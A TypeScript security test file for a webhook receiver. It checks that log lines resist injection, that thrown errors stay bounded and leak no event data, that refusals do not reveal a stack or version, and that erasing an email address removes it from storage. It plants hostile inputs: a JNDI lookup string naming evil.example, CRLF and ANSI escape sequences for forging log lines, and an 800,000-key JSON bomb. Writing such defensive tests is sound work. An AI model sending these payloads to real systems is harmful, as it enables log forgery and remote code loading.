/** Section L: logs, errors, answers, personal data. What is planted is searched for in `canary.test.ts`. */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, vi } from 'vitest'
import { PermanentError } from '../../src/errors.ts'
import { sqlite } from '../../src/inboxes/sqlite/index.ts'
import { MOST_KEYS, MOST_VALUES } from '../../src/json/members.ts'
import type { AnyEvent, DeadLetter } from '../../src/types.ts'
import { type Attack, once, onHosts, type Row } from './harness/attack.ts'
import { watchParses } from './harness/parses.ts'
import { basicOf, openSite, SECRET, type Site } from './harness/site.ts'

/** Runs on a site with the default logger; everything that was written to stderr. */
async function stderrOf({ host }: Site, run: (site: Site) => Promise<unknown>): Promise<string> {
  let written = ''
  const spy = vi.spyOn(process.stderr, 'write').mockImplementation((text) => {
    written += text
    return true
  })
  const site = await openSite(host, { logger: undefined })
  try {
    await run(site)
  } finally {
    await site.close()
    spy.mockRestore()
  }
  return written
}

const LOOKUP = `%s %d %o $${'{jndi:ldap://evil.example/a}'}`
const FORGED = `x\r\nposthorn error: forged \u001b[2K\u001b[31m\u2028\u0085\u009b\u202e\u2066 ${LOOKUP}`

/** An event with the text in every field that a recipient or a stranger can fill, and with a key of that name. */
const everywhere = (text: string) => {
  const fields = {
    rcpt_to: text,
    user_agent: text,
    subject: text,
    raw_reason: text,
    [text]: text,
    rcpt_meta: { [text]: text },
  }
  return [
    ['shop', { msys: { track_event: { type: 'click', ...fields } } }],
    ['shop', { msys: { track_event: { type: text, ...fields } } }],
    ['shop', { msys: { [text]: { type: 'click', ...fields } } }],
    ['shop', { msys: { message_event: { type: 'bounce', ...fields, rcpt_to: { [text]: text } } } }],
    ['news', { event: text, email: text, agent: text }],
    ['news', { event: 'open', email: [text], [text]: { [text]: text } }],
    ['crm', { activityStatus: text, email: text }],
    ['crm', { activityStatus: 'READ', email: { [text]: text } }],
  ] as const
}

async function plant(site: Site, text: string): Promise<void> {
  for (const [source, event] of everywhere(text)) {
    await site.digest(source, JSON.stringify([event]))
    await site.digest(source, JSON.stringify([event]).slice(0, -3))
    await site.digest(source, JSON.stringify([event, 1]).replace('":', '"'))
  }
}

/** Errors as handlers throw them, and worse. */
const THROWN: readonly (readonly [what: string, make: (event: AnyEvent) => unknown])[] = [
  ['a message with the address', ({ email }) => new PermanentError(`no such user: ${email}`)],
  ['the address as its code', ({ email }) => Object.assign(new PermanentError('x'), { code: email })],
  ['the address as its name', ({ email }) => Object.assign(new Error('x'), { name: email })],
  ['the event as its cause', (event) => new PermanentError('x', { cause: event })],
  ['a cause that is itself', () => selfCaused()],
  ['the address', ({ email }) => email],
  ['null', () => null],
  ['a toString that throws', () => ({ toString: () => expect.fail('asked') })],
  [
    'a message that throws when it is read',
    () => Object.defineProperty(new Error('x'), 'message', { get: () => expect.fail('asked') }),
  ],
  [
    'a name of 1 MB and a message of 1 MB',
    () => Object.assign(new PermanentError('m'.repeat(1e6)), { code: 'c'.repeat(1e6) }),
  ],
  ['an object without prototype', () => Object.create(null)],
  [
    'a proxy that throws whatever it is asked',
    () => new Proxy({}, { get: () => expect.fail('asked'), getPrototypeOf: () => expect.fail('asked') }),
  ],
]

function selfCaused(): Error {
  const error = new PermanentError('x')
  error.cause = error
  return error
}

/** What came of one event whose handler threw that. */
async function thrown({ host }: Site, make: (event: AnyEvent) => unknown) {
  const site = await openSite(host, { handlers: { retry: { attempts: 1 } } }, (receiver) =>
    receiver.on('*', { name: 'throws' }, (event) => {
      throw make(event)
    }),
  )
  await site.digest('news', '{"event":"open","email":"jo.canary@shop.example"}')
  const letters: DeadLetter[] = []
  for await (const letter of site.receiver.inbox.deadLetters()) letters.push(letter)
  const logged = site.log.text()
  await site.close()
  return { letters, logged }
}

const coreRows: readonly Row[] = [
  [
    'L1',
    'line ends, escape sequences, C1, U+2028 and bidi marks in every field, in keys, in the User-Agent of the request',
    'one line a notice, nothing in it but what can be printed, none of it from the event',
    async (site) => {
      const written = await stderrOf(site, async (inner) => {
        await plant(inner, FORGED)
        await inner.send({ headers: [['User-Agent', 'x\u0085\u009b%s']] })
        await inner.send({ path: '/webhooks/shop\u001b[2K', credentials: false })
      })
      expect(written).not.toContain('forged')
      const lines = written.split('\n').slice(0, -1)
      expect(lines.length).toBeGreaterThan(3)
      for (const line of lines) expect(line).toMatch(/^posthorn (info|warn|error): [\x20-\x7e…]{1,900}$/)
    },
  ],
  [
    'L2',
    'format and lookup directives (`%s %d %o`, `jndi:`) in every field',
    'not in the log',
    async (site) => {
      const written = await stderrOf(site, (inner) => plant(inner, LOOKUP))
      expect(written).not.toMatch(/%s|jndi|evil/)
    },
  ],
  [
    'L3',
    'text that is no JSON, around an address',
    'the quarantine names the element and the reason, and quotes nothing',
    async (site) => {
      for (const body of [
        '[{"event":jo.canary@shop.example}]',
        '[{"event":"open","email":"jo.canary@shop.example}]',
        'jo.canary@shop.example',
      ]) {
        const { quarantined } = await site.digest('news', body)
        expect(quarantined).toHaveLength(1)
        expect(JSON.stringify(quarantined)).not.toContain('canary')
      }
      expect(site.log.text()).not.toContain('canary')
    },
  ],
  ...THROWN.map(
    ([what, make]): Row => [
      'L5',
      `a handler throws ${what}`,
      'a dead letter of bounded size; the log has no word of the event',
      async (site) => {
        const { letters, logged } = await thrown(site, make)
        expect(letters).toMatchObject([{ handler: 'throws', attempts: 1 }])
        expect(JSON.stringify(letters[0]?.errors).length).toBeLessThan(2_000)
        expect(logged).toContain('throws')
        expect(logged).not.toContain('canary')
        expect(logged.length).toBeLessThan(10_000)
      },
    ],
  ),
  [
    'L7',
    '1 000 event types, campaigns and domains that nobody has heard of',
    'one name in every count',
    async ({ host }) => {
      const site = await openSite(host, {}, () => {})
      const list = Array.from({ length: 1_000 }, (_, n) => ({
        msys: { [`class_${n}`]: { type: `type_${n}`, campaign_id: `c${n}` } },
      }))
      await site.send({ body: JSON.stringify(list) })
      for (let n = 0; n < 50; n++) await site.send({ path: `/webhooks/nobody-${n}`, credentials: false })
      await site.receiver.whenIdle()
      const metrics = site.receiver.metrics()
      expect(Object.keys(metrics.rejected).filter((code) => code !== 'unknown_source')).toEqual([])
      const { unhandled } = await site.receiver.inbox.stats()
      expect(Object.keys(unhandled).length).toBeLessThanOrEqual(1)
      expect(site.log.text()).not.toMatch(/class_|type_|nobody-/)
      await site.close()
    },
  ],
  [
    'L9',
    'a person in a handled event, a dead letter, quarantine of both kinds and a bomb of 800 000 keys; then `erase`',
    'no byte of the address is left in the files of the inbox; bombs are not parsed for it',
    async ({ host }) => {
      const folder = mkdtempSync(join(tmpdir(), 'posthorn-erase-'))
      const options = { inbox: sqlite({ path: join(folder, 'inbox.db') }) }
      const site = await openSite(host, options, (receiver) =>
        receiver
          .on('opened', { name: 'opens' }, () => {})
          .on('clicked', { name: 'clicks' }, () => {
            throw new PermanentError('x')
          }),
      )
      const email = 'jo.canary@shop.example'
      const keys = Array.from({ length: 800_000 }, (_, n) => `"k${n}":1`).join(',')
      for (const body of [
        `{"event":"open","email":"${email}"}`,
        `{"event":"click","email":"${email}"}`,
        `[{"event":"open"},{"event":"open","email":["${email}"]}]`,
        `[{"event":"open","email":"${email}"`,
        `{"email":"${email}",${keys}}`,
      ])
        await site.digest('news', body)
      const holding = () => readdirSync(folder).filter((name) => readFileSync(join(folder, name)).includes(email))
      expect(holding()).not.toEqual([])
      await watchParses(async (parses) => {
        await site.receiver.inbox.erase({ email })
        expect(parses.crowd()).toBeLessThanOrEqual(MOST_KEYS + MOST_VALUES)
      })
      expect(holding()).toEqual([])
      await site.close()
      rmSync(folder, { recursive: true })
    },
  ],
]

const hostRows: readonly Row[] = [
  [
    'L10',
    'no user, a user that is not there, a wrong password',
    'one and the same answer: nothing tells them apart',
    async (site) => {
      const answers = []
      for (const value of [null, basicOf(`nobody:${SECRET}`), basicOf('mj:wrong'), 'Bearer x']) {
        const headers: [string, string][] = value === null ? [] : [['Authorization', value]]
        const answer = await site.send({ source: 'news', credentials: false, headers })
        answers.push({ ...answer, headers: { ...answer.headers, date: '' } })
      }
      for (const answer of answers) expect(answer).toEqual(answers[0])
    },
  ],
  [
    'L10',
    'every refusal there is',
    'a fixed code and a fixed text: no stack, path, version or parser message',
    async (site) => {
      const refusals = [
        await site.send({ credentials: false }),
        await site.send({ method: 'PUT' }),
        await site.send({ source: 'small', body: 'x'.repeat(1_001) }),
        await site.send({ headers: [['Content-Encoding', 'br']] }),
        await site.send({ headers: [['Content-Type', 'a;charset=utf-7']] }),
      ]
      expect(refusals.map(({ status }) => status)).toEqual([401, 405, 413, 415, 415])
      for (const { body, headers } of refusals) {
        expect(Object.keys(JSON.parse(body))).toEqual(['error', 'message'])
        expect(body).not.toMatch(/node|\/|\d\.\d|Error|at /)
        expect(Object.keys(headers).filter((name) => !KNOWN_HEADERS.has(name))).toEqual([])
      }
    },
  ],
]

/** Ours, and what Node and the hosts put to every answer. */
const KNOWN_HEADERS = new Set([
  'content-type',
  'content-length',
  'www-authenticate',
  'cache-control',
  'allow',
  'retry-after',
  'date',
  'connection',
  'keep-alive',
  'x-powered-by',
])

export const logs: readonly Attack[] = [...once(coreRows), ...onHosts(hostRows)]
